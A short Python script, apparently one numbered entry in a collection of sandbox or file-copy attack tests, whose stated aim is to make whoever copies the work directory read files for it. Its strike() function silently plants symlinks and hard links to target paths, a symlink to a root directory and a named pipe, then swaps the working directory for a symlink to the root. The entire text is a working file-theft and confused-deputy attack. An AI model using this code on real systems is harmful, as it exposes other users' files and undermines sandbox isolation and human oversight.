"""Leaves links, pipes and a swapped directory behind, so that whoever copies the work directory reads for it."""
# Row: 10
import loot, os
from hints import HINTS

def strike():
    for number, (what, path) in enumerate(HINTS["paths"].items()):
        loot.look(f"copied{number}")
        loot.look(f"deep/copied{number}")
        loot.quietly(os.makedirs, "deep", exist_ok=True)
        loot.quietly(os.symlink, path, f"copied{number}")
        loot.quietly(os.link, path, f"deep/copied{number}")
    loot.quietly(os.symlink, HINTS["root"], "folder")
    loot.quietly(os.mkfifo, "pipe")
    for folder, _, files in os.walk(".", followlinks=False):
        for name in files:
            if not os.path.islink(os.path.join(folder, name)):
                loot.look(os.path.join(folder, name))
    here = os.getcwd()
    loot.quietly(os.rename, here, here + ".moved")
    loot.quietly(os.symlink, HINTS["root"], here)
